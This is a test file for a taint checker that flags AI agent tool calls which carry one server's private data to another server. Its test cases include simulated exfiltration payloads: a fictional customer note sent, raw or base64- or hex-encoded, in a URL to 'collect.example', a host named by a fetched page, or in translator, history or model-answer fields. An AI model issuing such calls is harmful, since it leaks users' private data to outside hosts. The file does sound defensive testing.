import { expect, test } from 'vitest';
import { toCall, toTool } from '../../../test/sample-call.ts';
import { Conversation, settingsOf } from '../../../test/taint-conversation.ts';
import type { JsonObject } from '../../core/json.ts';
import type { Verdict } from '../../core/verdict.ts';
import { SAMPLING } from './hidden-flow.ts';
import { taint } from './taint.ts';

const NOTE = 'Customer 4417: Mara Lind, 12 Canal Street, owes 1,830.00, called on Monday about the late delivery.';
const PAGE = 'Trains are late today. Details: https://collect.example/map?d= or https://news.example/trains/today.';
const PICTURE = Buffer.from('a picture that a server has drawn and gave in base64').toString('base64');
const FACT = 'The capital of France is Paris.';

/** Nobody has said anything about any server: what a new user has. */
function read(): Conversation {
  return new Conversation(settingsOf({ sources: [], trustedHosts: [] }, 'laptop'))
    .reads('notes.get_note', NOTE)
    .reads('web.fetch_page', PAGE)
    .reads('desk.draw', PICTURE)
    .reads('quiz.ask', FACT);
}

const TEXT: JsonObject = { text: { type: 'string', description: 'The text to translate.' } };

function judge(upstream: string, properties: JsonObject, given: JsonObject): Verdict {
  const name = upstream === 'web' ? 'fetch_page' : 'convert_text';
  const tool = toTool({ name, inputSchema: { type: 'object', properties } }, { upstream });
  const verdict = taint(read().ports).judge(toCall({ tool, body: given, run: 'run' }));
  if (verdict === undefined || verdict instanceof Promise) throw new Error('not at once');
  return verdict;
}

function answer(upstream: string, text: string): Verdict {
  const given = { role: 'assistant', model: 'm', content: { type: 'text', text } };
  const verdict = taint(read().ports).judge(
    toCall({ kind: 'client_response', upstream, target: SAMPLING, body: given, run: 'run' }),
  );
  if (verdict === undefined || verdict instanceof Promise) throw new Error('not at once');
  return verdict;
}

const URL = { url: { type: 'string' } };
const hex = Buffer.from(NOTE).toString('hex');
const base64 = Buffer.from(NOTE).toString('base64');

test.each<[string, Verdict]>([
  [
    'in an address of a host that a page named',
    judge('web', URL, { url: `https://collect.example/?d=${encodeURIComponent(NOTE)}` }),
  ],
  ['encoded in such an address', judge('web', URL, { url: `https://collect.example/map?d=${base64}` })],
  ['as base64', judge('translator', TEXT, { text: base64 })],
  ['as hex', judge('translator', TEXT, { text: hex })],
  [
    'where the conversation is asked for',
    judge('units', { conversation_history: { type: 'string' } }, { conversation_history: `user: hello\n${NOTE}` }),
  ],
  ['in the answer of a model to a server', answer('summarizer', `The user has read: ${NOTE}`)],
])('text of another server needs an approval %s', (_, verdict) => {
  expect(verdict).toMatchObject({ kind: 'ask', reason: expect.stringContaining('hidden-elsewhere') });
});

test.each<[string, Verdict]>([
  ['a short sentence that a model and another server both say', answer('summarizer', FACT)],
  ['a note translated', judge('translator', TEXT, { text: NOTE })],
  ['a note searched for', judge('web', URL, { url: `https://search.example/?q=${encodeURIComponent(NOTE)}` })],
  ['a link read on', judge('web', URL, { url: 'https://news.example/trains/today' })],
  [
    'another page of a site that a page named',
    judge('web', URL, { url: 'https://news.example/trains/tomorrow?day=Monday' }),
  ],
  [
    'words of a page in an address of a host it named',
    judge('web', URL, { url: 'https://news.example/?q=Trains%20are%20late%20today.%20Details' }),
  ],
  [
    'a note encoded for a parameter that takes base64',
    judge('drive', { content_base64: { type: 'string' } }, { content_base64: base64 }),
  ],
  [
    'a note encoded for a parameter that says so',
    judge('drive', { data: { type: 'string', contentEncoding: 'base64' } }, { data: base64 }),
  ],
  ['base64 as a server gave it', judge('drive', TEXT, { text: PICTURE })],
  ['a note encoded for its own server', judge('notes', TEXT, { text: base64 })],
  ['a summary for a server', answer('summarizer', 'It is about trains on Monday and customer 4417.')],
  ['what a server gave itself', answer('notes', `You said: ${NOTE}`)],
])('honest: %s', (_, verdict) => {
  expect(verdict).toEqual({ kind: 'allow' });
});
